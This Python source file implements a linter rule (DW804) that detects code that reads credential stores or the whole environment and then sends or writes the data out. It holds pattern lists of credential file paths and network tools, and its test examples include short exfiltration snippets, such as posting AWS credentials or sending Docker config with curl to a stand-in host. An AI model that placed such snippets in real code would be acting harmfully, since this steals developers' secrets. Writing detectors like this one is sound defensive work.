"""credential-harvest: credential stores or the whole environment read, then sent or written out.

**What it finds.** DW804: a function that reads a credential store and, in the same function,
sends data over the network or writes a file elsewhere. Module-level code pairs with
module-level sends and writes, and with a send anywhere in the module that is given the name
the module-level read was stored in (`BOOT_ENV = dict(os.environ)` ... `json=BOOT_ENV`). The
stores are SSH private keys and `authorized_keys` (`~/.ssh/id_rsa`,
`id_ed25519`, ..., the `~/.ssh` folder itself), `~/.aws/credentials` and `config`, `~/.netrc`,
`~/.docker/config.json`, `~/.kube/config`, `~/.git-credentials`, `~/.config/gcloud`,
`~/.azure`, `~/.npmrc`, `~/.pypirc`, browser profiles (`Login Data`, `Cookies`,
`.mozilla/firefox`, Chrome's `User Data` and `Application Support` folders), `/etc/shadow` and
(at low severity) `/etc/passwd`. A store counts as read when its path is given to `open()`,
`Path.read_text()` / `read_bytes()` / `open()`, `os.path.expanduser()`, or is the source of
`shutil.copy*` / `move`, or is built as a chain like `Path.home() / ".ssh" / "id_rsa"`. Paths are
followed through `os.path.join`, `Path(...)`, `/`, `+`, f-strings and names assigned once.
Reading the whole environment counts too: `dict(os.environ)`, `os.environ.copy()`,
`{**os.environ}`, `os.environ.items()` / `values()`, a loop or comprehension over `os.environ`,
and `os.environ` given to `json.dumps`, `str`, `repr`, `print`, `pprint`, `yaml.dump`. Sending
is a call of `requests`, `httpx`, `aiohttp`, `urllib3`, `urllib.request.urlopen` / `Request`,
`http.client`, `smtplib`, `ftplib`, `socket.create_connection`, a `.sendall()` / `.sendto()` /
`.sendmsg()` method, or a `curl` / `wget` / `nc` command. For a store, writing out is any file
opened for writing (or `write_text`, a copy, a move) outside the credential stores; for the
environment, whose copies honest code makes all the time, it is the copy itself (or its loop
variables) given to `print`, `pprint`, a `.write()` / `.writelines()` / `write_text()` or
`json.dump` / `yaml.dump` / `pickle.dump`.

**Why it matters in assistant-written code.** A coding agent that has been steered by a
poisoned prompt, dependency or web page has one prize within reach: the developer's machine.
The planted code is short and looks like plumbing (`payload = dict(os.environ)` next to a
"telemetry" POST, a "backup" of `~/.aws/credentials`). Reading a store is often legitimate;
reading it and sending or writing it somewhere, in the same function, is what theft looks like.

**Severity.** Critical (high confidence for a named store, medium for the environment, which
honest code copies more often); `/etc/passwd` alone is low.

**Bad**

```python
def sync_settings():
    creds = Path.home() / ".aws" / "credentials"
    requests.post(TELEMETRY_URL, data=creds.read_text(), timeout=5)
```

**Good**

```python
def sync_settings(client):
    client.post("/settings", json=load_settings(), timeout=5)  # only the project's own data
```

**Not flagged.** A store read with nothing sent or written in the same function (a library that
loads `~/.aws/config` and sends requests elsewhere); writing back into the store itself (a
`docker login` helper updating `~/.docker/config.json`); `~/.ssh/known_hosts` and
`~/.ssh/config`, and public keys (`id_rsa.pub`); a CLI writing its own config in the home
folder (`~/.config/mytool/config.toml`); `netrc.netrc()` (the standard way for an HTTP client to
find the password for the host it is about to call); single lookups (`os.environ.get("HOME")`,
`os.environ["TOKEN"]`) and `os.environ.keys()`; an environment copy handed to a child process
(`subprocess.run(cmd, env=os.environ.copy())`, or a copy assigned to a name that is passed as
`env=`); an environment copy kept to restore it later in a function that writes other files
(CPython's and mypy's test helpers); a module-level copy when the module's sends happen in
functions that do not use it; a test that reads `os.environ` and sends nothing. Sends through
objects we cannot resolve (`self.session.post(...)`) are not seen: the rule is built to catch
planted code, which uses the plain library calls.

Flagged although sometimes legitimate: a tool that reads a store to log in to the very service
it then calls, in one function (reading `~/.pypirc` and uploading); such code needs a
suppression with the reason, or the read moved into its own function.

**Fix.** None automatic. Delete the code unless you asked for it; if it is intended (a backup
tool, a support-bundle command), suppress the finding with the reason.

**References.** CWE-200 (exposure of sensitive information), CWE-522 (insufficiently protected
credentials); no bandit or ruff counterpart.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, FrozenSet, List, Optional, Set, Tuple

from hooks import _paths
from hooks.engine.lazy import cst
from hooks.engine.names import lookup
from hooks.engine.rule import Bad, Confidence, Ok, OptionValue, Rule, Severity
from hooks.engine.tree import children, names_read
from hooks.engine.lazyre import lazy_re

if TYPE_CHECKING:
    from hooks.engine.context import RuleContext

# (pattern over the rendered path, what the store holds, severity)
STORES: Tuple[Tuple["re.Pattern[str]", str, Severity], ...] = tuple(
    (lazy_re(pattern), what, severity)
    for pattern, what, severity in (
        (r"(?:^|/)\.ssh/(?:id_[\w*-]+|identity|authorized_keys2?)$", "SSH keys", Severity.CRITICAL),
        (r"(?:^|/)\.ssh/?\*?$", "the SSH key folder", Severity.CRITICAL),
        (r"(?:^|/)\.aws/(?:credentials|config)$", "AWS credentials", Severity.CRITICAL),
        (r"(?:^|/)[._]netrc$", "the .netrc password file", Severity.CRITICAL),
        (r"(?:^|/)\.docker/config\.json$", "Docker registry credentials", Severity.CRITICAL),
        (r"(?:^|/)\.kube/config$", "Kubernetes credentials", Severity.CRITICAL),
        (r"(?:^|/)\.git-credentials$", "git credentials", Severity.CRITICAL),
        (r"(?:^|/)\.config/gcloud(?:/|$)", "Google Cloud credentials", Severity.CRITICAL),
        (r"(?:^|/)\.azure(?:/|$)", "Azure credentials", Severity.CRITICAL),
        (r"(?:^|/)\.npmrc$", "npm tokens", Severity.CRITICAL),
        (r"(?:^|/)\.pypirc$", "PyPI tokens", Severity.CRITICAL),
        (
            r"(?:^|/)(?:Login Data|Cookies)$|\.mozilla/firefox(?:/|$)|Firefox/Profiles"
            r"|Google/Chrome/User Data|Application Support/Google/Chrome|google-chrome/",
            "browser profile data (saved passwords, cookies)",
            Severity.CRITICAL,
        ),
        (r"^/etc/shadow$", "the system password hashes", Severity.CRITICAL),
        (r"^/etc/passwd$", "the system user list", Severity.LOW),
    )
)
# where writing stays inside a store (updating it in place is not sending it anywhere)
INSIDE_STORE = lazy_re(
    r"(?:^|/)(?:\.ssh|\.aws|\.docker|\.kube|\.azure|\.config/gcloud)(?:/|$)"
    r"|(?:^|/)(?:[._]netrc|\.git-credentials|\.npmrc|\.pypirc)$"
)
ENVIRONMENT = frozenset({"os.environ", "os.environb"})
# methods of os.environ whose result is every variable with its value
ENVIRONMENT_COPIES = frozenset(
    f"{name}.{method}" for name in ENVIRONMENT for method in ("copy", "items", "values")
)
# calls that hand back everything in the os.environ they are given
ENVIRONMENT_WRAPPERS = frozenset(
    {
        "builtins.dict", "builtins.str", "builtins.repr", "builtins.print", "builtins.sorted",
        "builtins.list", "builtins.tuple", "json.dumps", "json.dump", "pprint.pprint",
        "pprint.pformat", "pprint.pp", "yaml.dump", "yaml.safe_dump", "pickle.dumps",
        "copy.copy", "copy.deepcopy",
    }
)  # fmt: skip
# wrappers that keep only the names when given os.environ itself: keys are not secrets
KEY_WRAPPERS = frozenset({"builtins.sorted", "builtins.list", "builtins.tuple"})
PRINTERS = frozenset({"builtins.print", "pprint.pprint", "pprint.pp"})
DUMPERS = frozenset(
    {"json.dump", "yaml.dump", "yaml.safe_dump", "pickle.dump", "marshal.dump", "toml.dump"}
)
WRITER_METHODS = frozenset({"write", "writelines", "write_text", "write_bytes"})
PRINTS, WRITES_IT = "prints it", "writes it to a file"
REQUESTS_VERBS = ("get", "post", "put", "patch", "delete", "head", "options", "request")
NETWORK_CALLS = frozenset(
    {
        *(
            f"{lib}.{verb}"
            for lib in ("requests", "requests.api", "httpx")
            for verb in REQUESTS_VERBS
        ),
        "requests.Session", "requests.session", "httpx.stream", "httpx.Client",
        "httpx.AsyncClient", "aiohttp.ClientSession", "aiohttp.request", "urllib3.PoolManager",
        "urllib3.ProxyManager", "urllib3.request", "urllib3.HTTPConnectionPool",
        "urllib3.HTTPSConnectionPool", "urllib3.connection_from_url", "urllib.request.urlopen",
        "urllib.request.Request", "urllib2.urlopen", "urllib2.Request",
        "http.client.HTTPConnection", "http.client.HTTPSConnection", "httplib.HTTPConnection",
        "httplib.HTTPSConnection", "smtplib.SMTP", "smtplib.SMTP_SSL", "smtplib.LMTP",
        "ftplib.FTP", "ftplib.FTP_TLS", "socket.create_connection",
    }
)  # fmt: skip
SEND_METHODS = frozenset({"sendall", "sendto", "sendmsg"})
SOCKETS = frozenset({"socket.socket", "socket.create_connection", "ssl.wrap_socket"})
COMMAND_RUNNERS = frozenset(
    {
        "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output",
        "subprocess.Popen", "os.system", "os.popen", "asyncio.create_subprocess_exec",
        "asyncio.create_subprocess_shell",
    }
)  # fmt: skip
NETWORK_COMMAND = lazy_re(r"^\s*(?:\S*/)?(?:curl|wget|nc|ncat|netcat|scp)(?:\s|$)")
# functions that take the child's environment at this position
EXEC_WITH_ENV = frozenset(
    f"os.{name}" for name in ("execve", "execle", "execvpe", "execlpe", "spawnve", "spawnvpe")
)
MAX_SHOWN = 60
CALL_NAMES = frozenset(
    {
        *_paths.PATH_CALL_NAMES, *SEND_METHODS, *WRITER_METHODS, "send", "copy", "items",
        "values",
        *_paths.last_names(
            [*NETWORK_CALLS, *COMMAND_RUNNERS, *PRINTERS, *DUMPERS, *ENVIRONMENT_WRAPPERS,
             *EXEC_WITH_ENV]
        ),
    }
)  # fmt: skip


@dataclass
class _Read:
    node: cst.CSTNode
    shown: str
    what: str
    severity: Severity
    environment: bool
    names: FrozenSet[str] = frozenset()  # names that hold what was read
    output: str = ""  # PRINTS or WRITES_IT when read inside such a call


@dataclass
class _Frame:
    """What one function (or the module) reads, and whether it sends or writes anything."""

    reads: List[_Read] = field(default_factory=list)
    # sends and file writes in this function (for the module: outside every function)
    sends: List[str] = field(default_factory=list)
    writes: List[Tuple[str, str]] = field(default_factory=list)  # (how, the path's text)
    # names given to any send below this frame, and to print / write calls
    sent_names: Dict[str, str] = field(default_factory=dict)
    output_names: Dict[str, str] = field(default_factory=dict)
    child_environments: Set[str] = field(default_factory=set)  # names passed as env=


def _target_names(node: cst.BaseExpression) -> FrozenSet[str]:
    if isinstance(node, cst.Name):
        return frozenset({node.value})
    if isinstance(node, (cst.Tuple, cst.List)):
        return frozenset(n for el in node.elements for n in _target_names(el.value))
    return frozenset()


def _shown(node: cst.CSTNode) -> str:
    """The code of `node` on one line, shortened for the message."""
    text = " ".join(cst.Module(body=[]).code_for_node(node).split())
    return text if len(text) <= MAX_SHOWN else text[: MAX_SHOWN - 3] + "..."


def _spelled(node: cst.CSTNode) -> str:
    parts: List[str] = []
    while isinstance(node, cst.Attribute):
        parts.append(node.attr.value)
        node = node.value
    if isinstance(node, cst.Name):
        parts.append(node.value)
    elif isinstance(node, cst.Call):
        parts.append(f"{_spelled(node.func)}()")
    return ".".join(reversed(parts))


def _store(text: str) -> Optional[Tuple[str, Severity]]:
    for pattern, what, severity in STORES:
        if pattern.search(text):
            return what, severity
    return None


def _command_text(ctx: RuleContext, call: cst.Call) -> str:
    """The program and first words of a command, as a string (list commands joined)."""
    arg = ctx.argument(call, 0, "args")
    if arg is None:
        return ""
    value = arg.value
    if isinstance(value, (cst.List, cst.Tuple)):
        words = [_paths.render(ctx, el.value) for el in value.elements[:1]]
        return " ".join(words)
    return _paths.render(ctx, value)


class CredentialHarvest(Rule):
    code = "DW804"
    name = "credential-harvest"
    summary = "Credential stores or the whole environment are read and then sent or written out."
    severity = Severity.CRITICAL
    confidence = Confidence.HIGH
    cwe = (200, 522)
    message = "`{read}` reads {what}, and {where} also {sink}"
    hint = "remove it unless you asked for it; a real need deserves a suppression with the reason"
    reads_definitions = True  # a value collected at module level, sent from a function
    triggers = (
        "environ", "environb", "ssh", "id_rsa", "id_ed25519", "authorized_keys", "aws",
        "netrc", "_netrc", "docker", "kube", "credentials", "gcloud", "azure", "npmrc",
        "pypirc", "Cookies", "Login", "firefox", "Firefox", "Chrome", "chrome", "shadow", "passwd",
    )  # fmt: skip
    examples = (
        Bad(
            "import requests\nfrom pathlib import Path\n\ndef sync_settings():\n"
            "    creds = Path.home() / '.aws' / 'credentials'\n"
            "    requests.post(TELEMETRY_URL, data=creds.read_text(), timeout=5)\n",
            ((5, 13),),
            severity=Severity.CRITICAL,
            why="a Path.home() chain, sent in the same function",
        ),
        Bad(
            "import os\nimport requests\n\ndef report_crash(exc):\n"
            "    context = {'error': str(exc), 'env': dict(os.environ)}\n"
            "    requests.post('https://crash.example.com/report', json=context, timeout=5)\n",
            ((5, 42),),
            why="the whole environment in a 'crash report'",
        ),
        Bad(
            "import os\nimport urllib.request\n\n"
            "key = open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n"
            "urllib.request.urlopen(ENDPOINT, data=key.encode())\n",
            ((4, 7),),
            why="module-level code: read and send in the same module",
        ),
        Bad(
            "import os\nimport shutil\n\ndef backup():\n"
            "    shutil.copy(os.path.expanduser('~/.aws/credentials'), 'build/creds.txt')\n",
            ((5, 5),),
            why="copying the store out is writing it out",
        ),
        Bad(
            "import json\nimport os\n\ndef dump_env(path):\n"
            "    with open(path, 'w') as fh:\n        json.dump({**os.environ}, fh)\n",
            ((6, 19),),
            why="the environment written to a file",
        ),
        Bad(
            "import os\nimport socket\n\ndef beacon(host):\n"
            "    sock = socket.create_connection((host, 443))\n"
            "    for name, value in os.environ.items():\n"
            "        sock.sendall(f'{name}={value}\\n'.encode())\n",
            ((6, 24),),
            why="a loop over the environment, sent over a socket",
        ),
        Bad(
            "import socket\n\ndef ship(host):\n    s = socket.socket()\n"
            "    s.connect((host, 9000))\n"
            "    s.send(open('/root/.git-credentials', 'rb').read())\n",
            ((6, 12),),
            why="a plain socket's send",
        ),
        Bad(
            "import os\n\ndef debug():\n    print(os.environ)\n",
            ((4, 5),),
            why="printing the whole environment",
        ),
        Bad(
            "import subprocess\n\ndef upload():\n"
            "    with open('/home/dev/.docker/config.json') as fh:\n        data = fh.read()\n"
            "    subprocess.run(['curl', '-d', data, 'https://drop.example.net'])\n",
            ((4, 10),),
            why="sent with curl",
        ),
        Bad(
            "import requests\n\ndef users():\n"
            "    requests.post(URL, data=open('/etc/passwd').read(), timeout=5)\n",
            ((4, 29),),
            severity=Severity.LOW,
            why="/etc/passwd holds no secrets: low",
        ),
        Bad(
            "import os\nimport requests\n\nBOOT_ENV = dict(os.environ)\n\n"
            "def heartbeat():\n    requests.put(STATUS_URL, json=BOOT_ENV, timeout=5)\n",
            ((4, 12),),
            why="a module-level copy sent from a function",
        ),
        Bad(
            "import os\n\ndef snapshot(path):\n    env = os.environ.copy()\n"
            "    with open(path, 'w') as fh:\n"
            "        fh.writelines(f'{k}={v}\\n' for k, v in env.items())\n",
            ((4, 11),),
            why="the copy itself is written to a file",
        ),
        Ok(
            "import configparser\nimport os\n\ndef load_profile(name):\n"
            "    parser = configparser.ConfigParser()\n"
            "    parser.read(os.path.expanduser('~/.aws/config'))\n"
            "    return parser[f'profile {name}']\n",
            why="a read with nothing sent or written",
        ),
        Ok(
            "import os\nimport subprocess\n\ndef build(cmd):\n"
            "    env = os.environ.copy()\n    env['PYTHONUNBUFFERED'] = '1'\n"
            "    subprocess.run(cmd, env=env, check=True)\n"
            "    with open('build.log', 'w') as fh:\n        fh.write('done')\n",
            why="the environment handed to a child process",
        ),
        Ok(
            "import os\nimport subprocess\n\n"
            "subprocess.run(['make'], env={**os.environ, 'CC': 'clang'}, check=True)\n",
        ),
        Ok(
            "import os\nimport requests\n\ndef fetch(path):\n"
            "    token = os.environ.get('API_TOKEN')\n    home = os.environ['HOME']\n"
            "    return requests.get(BASE + path, headers={'Authorization': token}, timeout=5)\n",
            why="single lookups, not the whole environment",
        ),
        Ok(
            "import os\n\ndef test_reads_proxy_settings(monkeypatch):\n"
            "    monkeypatch.setenv('HTTPS_PROXY', 'http://proxy:3128')\n"
            "    env = dict(os.environ)\n    assert env['HTTPS_PROXY'] == 'http://proxy:3128'\n",
            why="a test that reads the environment and sends nothing",
        ),
        Ok(
            "from pathlib import Path\nimport tomllib\n\n"
            "CONFIG = Path.home() / '.config' / 'mytool' / 'config.toml'\n\n"
            "def save(settings):\n    CONFIG.parent.mkdir(parents=True, exist_ok=True)\n"
            "    CONFIG.write_text(render_toml(settings))\n",
            why="a CLI writing its own config in the home folder",
        ),
        Ok(
            "import os\nimport paramiko\n\ndef connect(host):\n"
            "    client = paramiko.SSHClient()\n"
            "    client.load_host_keys(os.path.expanduser('~/.ssh/known_hosts'))\n"
            "    client.connect(host)\n    client.exec_command('uptime')\n",
            why="known_hosts in an SSH library",
        ),
        Ok(
            "import json\nimport os\n\ndef login(registry, token):\n"
            "    path = os.path.expanduser('~/.docker/config.json')\n"
            "    with open(path) as fh:\n        config = json.load(fh)\n"
            "    config['auths'][registry] = {'auth': token}\n"
            "    with open(path, 'w') as fh:\n        json.dump(config, fh)\n",
            why="writing back into the store itself",
        ),
        Ok(
            "import httpx\n\nclass Client:\n"
            "    def __init__(self, base_url):\n"
            "        self.http = httpx.Client(base_url=base_url)\n"
            "\n    def get(self, path):\n        return self.http.get(path)\n",
            why="an HTTP client calling its configured host: no store read",
        ),
        Ok(
            "import os\nimport requests\n\ndef upload_key():\n"
            "    key = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read()\n"
            "    requests.post(API + '/user/keys', json={'key': key}, timeout=5)\n",
            why="a public key",
        ),
        Ok(
            "import os\nimport requests\n\ndef names():\n"
            "    keys = sorted(os.environ)\n"
            "    requests.post(URL, json={'vars': keys}, timeout=5)\n",
            why="the names of the variables, not their values",
        ),
        Ok(
            "import os\nimport sys\n\ndef run_case(self, source, workers):\n"
            "    worker_env = None\n    if workers:\n        worker_env = os.environ.copy()\n"
            "        worker_env['PYTHONPATH'] = ROOT\n"
            "    with open('program.py', 'w') as fh:\n        fh.write(source)\n"
            "    return build(source, env=worker_env)\n",
            why="a copy for workers, and a file written with other data (mypy's test runner)",
        ),
        Ok(
            "import os\n\nclass SavedEnviron:\n    def setUp(self):\n"
            "        self.saved = dict(os.environ)\n"
            "        with open(TESTFN, 'w') as fh:\n            fh.write('x = 1')\n"
            "\n    def tearDown(self):\n        os.environ.clear()\n"
            "        os.environ.update(self.saved)\n",
            why="a test saving the environment to restore it (CPython's test_os)",
        ),
        Ok(
            "import http.client\nimport os\n\nclass Handler:\n"
            "    os_environ = dict(os.environ.items())\n\n"
            "def check(host):\n    conn = http.client.HTTPConnection(host, timeout=5)\n"
            "    conn.request('GET', '/')\n",
            why="a module-level copy, and a send elsewhere that does not use it (test_wsgiref)",
        ),
        Ok(
            "import os\n\ndef pump(gen, channel):\n    env = dict(os.environ)\n"
            "    gen.send(env)\n    channel.send(env)\n",
            why="send on a generator and a channel, not a socket",
        ),
        Ok(
            "import os\n\nNOTE = 'never read ~/.aws/credentials or dict(os.environ)'\n",
            why="text in a string",
        ),
    )

    def __init__(self, ctx: RuleContext, options: Dict[str, OptionValue]) -> None:
        super().__init__(ctx, options)
        self.frames: List[_Frame] = []
        # the enclosing `env=` arguments and print calls, innermost last
        self.child_args: List[cst.Arg] = []
        self.outputs: List[Tuple[cst.Call, str]] = []
        # id of an assigned value -> the name it is assigned to
        self.assigned: Dict[int, str] = {}
        # id of a loop's iterable -> the names its loop binds
        self.loop_names: Dict[int, FrozenSet[str]] = {}

    # frames: one per function, one for the module
    def visit_Module(self, node: cst.Module) -> None:
        self.frames.append(_Frame())

    def leave_Module(self, node: cst.Module) -> None:
        self._judge(self.frames.pop(), "this module")

    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
        self.frames.append(_Frame())

    def leave_FunctionDef(self, node: cst.FunctionDef) -> None:
        self._judge(self.frames.pop(), "this function")

    def _judge(self, frame: _Frame, where: str) -> None:
        seen: Set[str] = set()
        for read in frame.reads:
            if read.what in seen:
                continue
            sink = self._sink(frame, read)
            if sink is None:
                continue
            seen.add(read.what)
            self.report(
                read.node,
                severity=read.severity,
                confidence=Confidence.MEDIUM if read.environment else Confidence.HIGH,
                read=read.shown,
                what=read.what,
                where=where,
                sink=sink,
            )

    @staticmethod
    def _sink(frame: _Frame, read: _Read) -> Optional[str]:
        if read.environment and read.names & frame.child_environments:
            return None
        sent = sorted(read.names & frame.sent_names.keys())
        if frame.sends or sent:
            how = frame.sent_names[sent[0]] if sent else frame.sends[0]
            return f"sends data over the network (`{how}`)"
        if read.output:
            return read.output
        if read.environment:
            # honest code copies the environment and writes files: only its own data counts
            written = sorted(read.names & frame.output_names.keys())
            return frame.output_names[written[0]] if written else None
        for how, text in frame.writes:
            if not INSIDE_STORE.search(text):
                return f"writes a file (`{how}`)"
        return None

    # context the reads and sinks need
    def visit_Assign(self, node: cst.Assign) -> None:
        if len(node.targets) == 1 and isinstance(node.targets[0].target, cst.Name):
            self.assigned[id(node.value)] = node.targets[0].target.value

    def visit_For(self, node: cst.For) -> None:
        self.loop_names[id(node.iter)] = _target_names(node.target)
        self._environment_iteration(node.iter)

    def visit_CompFor(self, node: cst.CompFor) -> None:
        self.loop_names[id(node.iter)] = _target_names(node.target)
        self._environment_iteration(node.iter)

    def visit_Arg(self, node: cst.Arg) -> None:
        if node.keyword is not None and node.keyword.value == "env":
            self.child_args.append(node)
            if isinstance(node.value, cst.Name):
                self.frames[-1].child_environments.add(node.value.value)

    def leave_Arg(self, node: cst.Arg) -> None:
        if self.child_args and self.child_args[-1] is node:
            self.child_args.pop()

    def visit_Dict(self, node: cst.Dict) -> None:
        for element in node.elements:
            if isinstance(element, cst.StarredDictElement) and self._is_environment(element.value):
                self._add_environment(node)
                return

    def visit_Call(self, node: cst.Call) -> None:
        if not _paths.worth_resolving(node, CALL_NAMES):
            return
        func = self.ctx.resolve(node.func)
        output = self._output(node, func)
        if output:
            self.outputs.append((node, output))
            for arg in node.args:
                for name in names_read(arg.value):
                    self.frames[-1].output_names.setdefault(name, output)
        if func in EXEC_WITH_ENV:
            for arg in node.args[2:]:
                if isinstance(arg.value, cst.Name):
                    self.frames[-1].child_environments.add(arg.value.value)
        self._sink_call(node, func)
        if self._environment_call(node, func):
            self._add_environment(node)
            return
        read = _paths.read_path(self.ctx, node)
        if read is not None:
            self._add_store(node, _paths.render(self.ctx, read[1]))

    def leave_Call(self, node: cst.Call) -> None:
        if self.outputs and self.outputs[-1][0] is node:
            self.outputs.pop()

    def visit_BinaryOperation(self, node: cst.BinaryOperation) -> None:
        if isinstance(node.operator, cst.Divide):  # Path.home() / ".ssh" / "id_rsa"
            self._add_store(node, _paths.render(self.ctx, node))

    # the reads
    def _add_store(self, node: cst.CSTNode, text: str) -> None:
        found = _store(text)
        if found is None:
            return
        what, severity = found
        self.frames[-1].reads.append(_Read(node, _shown(node), what, severity, environment=False))

    def _is_environment(self, node: cst.BaseExpression) -> bool:
        return isinstance(node, (cst.Name, cst.Attribute)) and self.ctx.resolve(node) in ENVIRONMENT

    def _environment_call(self, node: cst.Call, func: Optional[str]) -> bool:
        """`os.environ.copy()`, `.items()`, `dict(os.environ)`, `json.dumps(os.environ)`."""
        if func in ENVIRONMENT_COPIES:
            return True
        if func not in ENVIRONMENT_WRAPPERS or not node.args:
            return False
        first = node.args[0].value
        if self._is_environment(first):
            return func not in KEY_WRAPPERS
        return isinstance(first, cst.Call) and self.ctx.resolve(first.func) in ENVIRONMENT_COPIES

    def _environment_iteration(self, iterable: cst.BaseExpression) -> None:
        if self._is_environment(iterable):  # `for name in os.environ`: values read inside
            self._add_environment(iterable, keys_only=True)

    def _add_environment(self, node: cst.CSTNode, keys_only: bool = False) -> None:
        if self.child_args:
            return  # handed to a child process
        frame = self.frames[-1]
        if any(read.environment and _inside(node, read.node) for read in frame.reads):
            return
        names = frozenset() if keys_only else self.loop_names.get(id(node), frozenset())
        if id(node) in self.assigned:
            names = names | {self.assigned[id(node)]}
        frame.reads.append(
            _Read(node, _shown(node), "the whole environment (every secret in it)",
                  Severity.CRITICAL, environment=True, names=names,
                  output=self.outputs[-1][1] if self.outputs else "")
        )  # fmt: skip

    # the sinks
    def _output(self, node: cst.Call, func: Optional[str]) -> str:
        if func in PRINTERS:
            return PRINTS
        if func in DUMPERS:
            return WRITES_IT
        writer = isinstance(node.func, cst.Attribute) and node.func.attr.value in WRITER_METHODS
        return WRITES_IT if func is None and writer else ""

    def _sink_call(self, node: cst.Call, func: Optional[str]) -> None:
        # module-level reads pair with module-level code, and with sends of the names they fill
        enclosing = self.frames[1:] or self.frames
        how = self._sends(node, func)
        if how is not None:
            for frame in enclosing:
                frame.sends.append(how)
            for arg in node.args:
                for name in names_read(arg.value):
                    for frame in self.frames:
                        frame.sent_names.setdefault(name, how)
            return
        written = _paths.written_path(self.ctx, node)
        if written is not None:
            text = _paths.render(self.ctx, written[1])
            for frame in enclosing:
                frame.writes.append((written[0], text))

    def _sends(self, node: cst.Call, func: Optional[str]) -> Optional[str]:
        if func in NETWORK_CALLS:
            return func
        if func in COMMAND_RUNNERS:
            command = _command_text(self.ctx, node)
            return command.split()[0] if NETWORK_COMMAND.match(command) else None
        if func is None and isinstance(node.func, cst.Attribute):
            method = node.func.attr.value
            if method in SEND_METHODS or (method == "send" and self._socket(node.func.value)):
                return _spelled(node.func)
        return None

    def _socket(self, owner: cst.BaseExpression) -> bool:
        """`sock`, `self.client_socket`, or a name assigned `socket.socket(...)`: `.send` on
        anything else is a generator's, a channel's or a signal's."""
        name = owner.attr.value if isinstance(owner, cst.Attribute) else ""
        if isinstance(owner, cst.Name):
            name = owner.value
            bindings, _ = lookup(name, self.ctx.scopes)
            for binding in bindings or ():
                value = binding.value
                if isinstance(value, cst.Call) and self.ctx.resolve(value.func) in SOCKETS:
                    return True
        return "sock" in name.lower()


def _inside(node: cst.CSTNode, outer: cst.CSTNode) -> bool:
    stack: List[cst.CSTNode] = [outer]
    while stack:
        current = stack.pop()
        if current is node:
            return True
        stack.extend(children(current))
    return False
